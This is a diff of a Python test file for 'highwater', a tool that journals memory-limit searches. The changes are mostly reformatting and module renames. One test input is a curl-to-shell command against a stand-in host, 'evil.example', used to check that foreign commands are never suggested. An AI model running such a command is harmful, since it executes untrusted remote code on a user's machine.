@@ -5,7 +5,6 @@ import os
 import signal
 import subprocess
 import sys
-import time
 from pathlib import Path
 
 import msgspec
@@ -13,14 +12,14 @@ import pytest
 from hypothesis import given
 from hypothesis import settings as hypothesis_settings
 from hypothesis import strategies as st
-from places import question_of
+from places import examples, question_of
 from studies import without_checksums
 
 from highwater.cli.app import main
-from highwater.errors import StudyError
-from highwater.launch.probe import environment
-from highwater.launch.simulated import FormulaLaw, SimulatedRunner
-from highwater.search.campaign import CellAnswered, campaign
+from highwater.errors import EXIT_MACHINE, StudyError
+from highwater.run.probe import environment
+from highwater.run.simulated import FormulaLaw, SimulatedRunner
+from highwater.search.cell_search import CellAnswered, search_cells
 from highwater.spec.environment import RECORDED_VARIABLES
 from highwater.spec.protocols import Runner
 from highwater.spec.study import Question, Study
@@ -46,8 +45,10 @@ def record(journal: Journal, length_tokens: int) -> None:
 
 def search(question: Question, journal: Journal, runner: Runner | None = None) -> RecordingRunner:
     """A whole search on the simulated runner, recorded."""
-    recording = RecordingRunner(runner or SimulatedRunner(FormulaLaw(shape=question.model.shape)), journal)
-    for event in campaign(question, recording):
+    recording = RecordingRunner(
+        runner or SimulatedRunner(FormulaLaw(shape=question.model.shape)), journal
+    )
+    for event in search_cells(question, recording):
         if isinstance(event, CellAnswered):
             journal.cell_answered(event.answer)
     return recording
@@ -72,7 +73,13 @@ def test_what_was_recorded_is_read_back(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    "typed", [("curl", "evil.example", "|", "sh"), ("highwater", "schema"), ("./highwater", "find"), ("find",)]
+    "typed",
+    [
+        ("curl", "evil.example", "|", "sh"),
+        ("highwater", "schema"),
+        ("./highwater", "find"),
+        ("find",),
+    ],
 )
 def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(
     typed: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
@@ -90,7 +97,9 @@ def test_a_command_that_is_no_search_of_ours_is_suggested_to_nobody(
         assert all(line.startswith("next: highwater ") for line in suggested)
 
 
-def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_where_a_search_ran_is_recorded_by_an_allow_list(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("HF_TOKEN", "hf_secretsecretsecret")
     monkeypatch.setenv("WANDB_API_KEY", "also secret")
     monkeypatch.setenv("PYTORCH_ALLOC_CONF", "expandable_segments:True")
@@ -102,9 +111,10 @@ def test_where_a_search_ran_is_recorded_by_an_allow_list(tmp_path: Path, monkeyp
     open_journal(path, QUESTION, environment=environment()).close()
     open_journal(path, QUESTION).close()
     recorded = read_study(path).environments
-    assert [found.variables.get("PYTORCH_ALLOC_CONF") for found in recorded] == ["expandable_segments:True", None], (
-        "equal ones once"
-    )
+    assert [found.variables.get("PYTORCH_ALLOC_CONF") for found in recorded] == [
+        "expandable_segments:True",
+        None,
+    ], "equal ones once"
     assert recorded[0] == here
     assert recorded[0].versions["highwater"]
     assert recorded[0].host_memory_total_bytes > 0
@@ -143,7 +153,9 @@ def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path: Path) -> N
         law = FormulaLaw(shape=QUESTION.model.shape)
         ran: list[int] = []
 
-        def interrupted(spec: TrialSpec, limit: int = finished, ran: list[int] = ran, law: FormulaLaw = law) -> int:
+        def interrupted(
+            spec: TrialSpec, limit: int = finished, ran: list[int] = ran, law: FormulaLaw = law
+        ) -> int:
             if len(ran) == limit:
                 raise KeyboardInterrupt
             ran.append(spec.length_tokens)
@@ -152,16 +164,22 @@ def test_a_search_interrupted_anywhere_goes_on_where_it_was(tmp_path: Path) -> N
         with pytest.raises(KeyboardInterrupt), open_journal(path, QUESTION) as journal:
             search(QUESTION, journal, SimulatedRunner(interrupted))
         cut = read_study(path)
-        assert (len(cut.trials), cut.finished_trials, cut.complete) == (finished + 1, finished, False)
+        assert (len(cut.trials), cut.finished_trials, cut.complete) == (
+            finished + 1,
+            finished,
+            False,
+        )
         with open_journal(path, QUESTION) as journal:
             assert search(QUESTION, journal).reused == finished
             assert journal.snapshot().trials == whole.trials
             assert journal.snapshot().answers == whole.answers
 
 
-@hypothesis_settings(max_examples=60)
+@hypothesis_settings(max_examples=examples(60))
 @given(cut=st.integers(min_value=0, max_value=10_000))
-def test_a_journal_cut_at_any_byte_loses_only_what_was_cut(tmp_path_factory: pytest.TempPathFactory, cut: int) -> None:
+def test_a_journal_cut_at_any_byte_loses_only_what_was_cut(
+    tmp_path_factory: pytest.TempPathFactory, cut: int
+) -> None:
     path = tmp_path_factory.mktemp("cut") / "study.jsonl"
     with open_journal(path, QUESTION) as journal:
         for length in (4096, 8192, 12288):
@@ -174,7 +192,9 @@ def test_a_journal_cut_at_any_byte_loses_only_what_was_cut(tmp_path_factory: pyt
     )
     with open_journal(path, QUESTION) as journal:
         assert journal.snapshot().finished_trials == survivors
-        assert bool(journal.notes) == (cut not in _line_ends(content) and cut > content.index(b"\n"))
+        assert bool(journal.notes) == (
+            cut not in _line_ends(content) and cut > content.index(b"\n")
+        )
         record(journal, 16384)
     assert lengths(read_study(path)) == [*[4096, 8192, 12288][:survivors], 16384]
     assert read_study(path).notes == ()
@@ -221,15 +241,18 @@ def test_an_end_without_a_beginning_is_damage(tmp_path: Path) -> None:
 def test_a_journal_of_a_newer_schema_is_left_alone(tmp_path: Path) -> None:
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    newer = path.read_bytes().replace(b'"schema_version":3', b'"schema_version":4,"and_more":true', 1)
+    newer = path.read_bytes().replace(
+        b'"schema_version":3', b'"schema_version":4,"and_more":true', 1
+    )
     path.write_bytes(newer)
     for attempt in (read_study, lambda path: open_journal(path, QUESTION)):
-        with pytest.raises(StudyError, match="newer highwater: its schema is 4, this one reads 3") as refusal:
+        with pytest.raises(StudyError, match=r"schema is 4, .* 3") as refusal:
             attempt(path)
     assert path.read_bytes() == newer
     assert str(path.with_name("study-2.jsonl")) in refusal.value.hint
 
 
+@pytest.mark.corpus
 @pytest.mark.parametrize("recorded", sorted(FOUND.glob("*.jsonl")), ids=lambda path: path.stem)
 def test_every_study_that_was_made_before_is_resumed_without_lines_that_its_schema_does_not_have(
     recorded: Path, tmp_path: Path
@@ -244,7 +267,9 @@ def test_every_study_that_was_made_before_is_resumed_without_lines_that_its_sche
     assert not any(took)
 
 
-@pytest.mark.parametrize("content", [b"my notes", b"my notes\n", b'{"kind":"other"}\n', b"[]\n", b"\0\0\0\0"])
+@pytest.mark.parametrize(
+    "content", [b"my notes", b"my notes\n", b'{"kind":"other"}\n', b"[]\n", b"\0\0\0\0"]
+)
 def test_a_file_that_is_no_study_is_never_touched(tmp_path: Path, content: bytes) -> None:
     path = tmp_path / "notes.txt"
     path.write_bytes(content)
@@ -261,12 +286,23 @@ def test_a_file_that_is_no_study_is_never_touched(tmp_path: Path, content: bytes
             question_of(loss="chunked", allocator="expandable", memory="70GiB"),
             "memory_budget_bytes is 85899345920 there and 75161927680 here",
         ),
-        (question_of(loss="chunked", allocator="expandable", resolution=1024), "grid.step_tokens is 4096 there and 1024 here"),
-        (question_of(loss="full"), "cells is Env + chunked, 1 GPU there and vanilla, 1 GPU; Env, 1 GPU here"),
-        (msgspec.structs.replace(QUESTION, simulated=False), "simulated is True there and False here"),
+        (
+            question_of(loss="chunked", allocator="expandable", resolution=1024),
+            "grid.step_tokens is 4096 there and 1024 here",
+        ),
+        (
+            question_of(loss="full"),
+            "cells is Env + chunked, 1 GPU there and vanilla, 1 GPU; Env, 1 GPU here",
+        ),
+        (
+            msgspec.structs.replace(QUESTION, simulated=False),
+            "simulated is True there and False here",
+        ),
     ],
 )
-def test_another_question_is_refused_and_the_difference_is_told(tmp_path: Path, asked: Question, said: str) -> None:
+def test_another_question_is_refused_and_the_difference_is_told(
+    tmp_path: Path, asked: Question, said: str
+) -> None:
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
     with pytest.raises(StudyError) as refusal:
@@ -279,7 +315,9 @@ def test_another_question_is_refused_and_the_difference_is_told(tmp_path: Path, 
 def test_the_same_model_in_another_place_is_the_same_question(tmp_path: Path) -> None:
     path = tmp_path / "study.jsonl"
     open_journal(path, QUESTION).close()
-    moved = msgspec.structs.replace(QUESTION, model=msgspec.structs.replace(QUESTION.model, directory="/elsewhere"))
+    moved = msgspec.structs.replace(
+        QUESTION, model=msgspec.structs.replace(QUESTION.model, directory="/elsewhere")
+    )
     open_journal(path, moved).close()
 
 
@@ -293,7 +331,7 @@ def test_a_second_writer_is_told_who_writes(tmp_path: Path) -> None:
             "except StudyError as error: print(error, '|', error.hint)\n"
         )
         said = _python(code, str(path), str(Path(__file__).parent)).stdout
-        assert f"is being written by process {os.getpid()}" in said
+        assert f" process {os.getpid()}" in said
         assert f"--study {tmp_path / 'study-2.jsonl'}" in said
         assert f"highwater show {path}" in said
         assert read_study(path).trials == ()
@@ -310,12 +348,13 @@ def test_a_writer_killed_with_9_leaves_every_finished_trial_and_no_lock(tmp_path
         "    record(journal, length); print(length, flush=True)\n"
     )
     writer = subprocess.Popen(
-        [sys.executable, "-c", code, str(path), str(Path(__file__).parent)], stdout=subprocess.PIPE, text=True
+        [sys.executable, "-c", code, str(path), str(Path(__file__).parent)],
+        stdout=subprocess.PIPE,
+        text=True,
     )
     assert writer.stdout is not None
     for _ in range(20):
         promised = int(writer.stdout.readline())
-    time.sleep(0.003)
     writer.send_signal(signal.SIGKILL)
     writer.wait()
     with open_journal(path, QUESTION) as journal:
@@ -331,7 +370,8 @@ import sys, itertools, resource, signal; from pathlib import Path; sys.path.inse
 from highwater.errors import MachineError
 from test_journal import QUESTION, open_journal, record
 signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
-if sys.argv[3] != "0": resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[3]), int(sys.argv[3])))
+most = int(sys.argv[3])
+if most: resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))
 journal = open_journal(Path(sys.argv[1]), QUESTION)
 try:
     for length in itertools.count(2): record(journal, length)
@@ -342,8 +382,10 @@ except MachineError as error: print(length, error.exit_code, "|", error, "|", er
 def test_a_write_that_does_not_fit_leaves_the_journal_whole(tmp_path: Path) -> None:
     path = tmp_path / "study.jsonl"
     said = _python(_FILL, str(path), str(Path(__file__).parent), "20001").stdout
-    assert "no space left to record the study" in said
-    assert "every finished trial is kept" in said
+    _, code, *_ = said.split()
+    assert int(code) == EXIT_MACHINE
+    assert "no space left" in said
+    assert "trial is kept" in said
     assert path.read_bytes().endswith(b"\n")
     failed_at = int(said.split()[0])
     with open_journal(path, QUESTION) as journal:
@@ -354,11 +396,16 @@ def test_a_write_that_does_not_fit_leaves_the_journal_whole(tmp_path: Path) -> N
 def test_a_disk_that_is_full_leaves_the_journal_whole(tmp_path: Path) -> None:
     disk = tmp_path / "disk"
     disk.mkdir()
-    script = 'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4" 0 && cat "$1/study.jsonl" > "$5"'
+    script = (
+        'mount -t tmpfs -o size=64k none "$1" && "$2" -c "$3" "$1/study.jsonl" "$4" 0 && cat '
+        '"$1/study.jsonl" > "$5"'
+    )
     mounted = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
     kept = tmp_path / "kept.jsonl"
     run = subprocess.run(
-        [*mounted, str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)], capture_output=True, text=True
+        [*mounted, str(disk), sys.executable, _FILL, str(Path(__file__).parent), str(kept)],
+        capture_output=True,
+        text=True,
     )
     if run.returncode and not kept.exists():
         pytest.skip(f"no user namespace to mount a small disk in: {run.stderr.strip()[:200]}")
@@ -375,15 +422,21 @@ def test_a_study_that_cannot_be_opened_is_the_users_to_mend(tmp_path: Path) -> N
         read_study(tmp_path / "none.jsonl")
 
 
-def test_a_crash_that_left_no_answer_is_tried_again_where_one_asks_and_a_measured_one_is_not(tmp_path: Path) -> None:
+def test_a_crash_that_left_no_answer_is_tried_again_where_one_asks_and_a_measured_one_is_not(
+    tmp_path: Path,
+) -> None:
     path = tmp_path / "study.jsonl"
     law = FormulaLaw(shape=QUESTION.model.shape)
-    crashing = SimulatedRunner(lambda spec: Outcome.CRASHED if law(spec) > 60 * 1024**3 else law(spec))
+    crashing = SimulatedRunner(
+        lambda spec: Outcome.CRASHED if law(spec) > 60 * 1024**3 else law(spec)
+    )
     with open_journal(path, QUESTION) as journal:
         search(QUESTION, journal, crashing)
         crashed = journal.snapshot()
     assert crashed.answers[0].limit == "inconclusive"
-    good = sum(trial.result is not None and trial.result.outcome is Outcome.FIT for trial in crashed.trials)
+    good = sum(
+        trial.result is not None and trial.result.outcome is Outcome.FIT for trial in crashed.trials
+    )
     with open_journal(path, QUESTION, retry_crashed=True) as journal:
         assert search(QUESTION, journal).reused == good
         assert journal.snapshot().answers[0].limit == "memory"
@@ -404,12 +457,16 @@ def _python(code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
     return done
 
 
-def test_a_study_from_before_a_setting_came_goes_on_without_repeating_a_trial(tmp_path: Path) -> None:
+def test_a_study_from_before_a_setting_came_goes_on_without_repeating_a_trial(
+    tmp_path: Path,
+) -> None:
     path = tmp_path / "study.jsonl"
     with open_journal(path, QUESTION) as journal:
         record(journal, 4096)
     written = without_checksums(path.read_text())
-    path.write_text(written.replace(',"checkpoint":"none"', "").replace(spec_of(4096).key, "a-key-of-then"))
+    path.write_text(
+        written.replace(',"checkpoint":"none"', "").replace(spec_of(4096).key, "a-key-of-then")
+    )
     assert path.read_text() != written
     with open_journal(path, QUESTION) as journal:
         assert journal.recorded(spec_of(4096), attempt=1, repeat=0) == FIT
